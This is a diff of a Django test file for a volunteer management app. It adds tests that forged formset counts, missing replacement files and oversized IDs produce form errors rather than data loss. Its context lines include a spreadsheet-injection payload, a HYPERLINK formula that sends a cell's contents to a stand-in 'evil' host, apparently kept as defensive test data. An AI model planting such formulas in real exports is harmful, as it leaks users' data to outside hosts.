@@ -21,10 +21,12 @@ from tests.factories import (
     ApplicationFactory,
     CallFactory,
     ContingentFactory,
+    DocumentFactory,
     MembershipFactory,
     MissionFactory,
     ProfileFactory,
 )
+from volunteers.models import Document, ProfileLanguage
 
 FORMULAS = [
     '=HYPERLINK("http://evil/?"&B2,"Voir")',
@@ -224,3 +226,36 @@ def test_rotating_the_key_keeps_every_secret_readable(settings, manager):
     authenticator.refresh_from_db()
     settings.MFA_ENCRYPTION_KEYS = settings.MFA_ENCRYPTION_KEYS[:1]  # the old key removed
     assert mfa.decrypt(authenticator.data["secret"]) == secret
+
+
+def test_replacing_a_document_without_a_new_file_is_a_form_error(client, volunteer):
+    document = DocumentFactory(volunteer=volunteer, kind="cv")
+    client.force_login(volunteer)
+    response = client.post(
+        reverse("volunteers:document_replace", args=[document.pk]), {"expiry_date": ""}
+    )
+    assert response.status_code == 200
+    assert "Choisissez le nouveau fichier." in response.text
+    assert Document.objects.get(pk=document.pk).file.name == document.file.name
+
+
+def test_a_forged_language_count_deletes_nothing(client, volunteer):
+    profile = ProfileFactory(user=volunteer)
+    ProfileLanguage.objects.create(profile=profile, language="fr", level="C1")
+    client.force_login(volunteer)
+    for total in ("-1", "100000"):
+        response = client.post(
+            reverse("volunteers:profile_step", args=["languages"]),
+            {"languages-TOTAL_FORMS": total, "languages-INITIAL_FORMS": "1"},
+        )
+        assert response.status_code == 200, total
+        assert list(profile.languages.values_list("language", "level")) == [("fr", "C1")]
+
+
+def test_an_id_too_large_for_the_database_is_a_form_error(manager_client, call):
+    response = manager_client.post(
+        reverse("staff:call_edit", args=[call.pk]),
+        {"title": "x", "missions": "99999999999999999999", "reviewers": "99999999999999999999"},
+    )
+    assert response.status_code == 200
+    assert {"missions", "reviewers"} <= set(response.context["form"].errors)
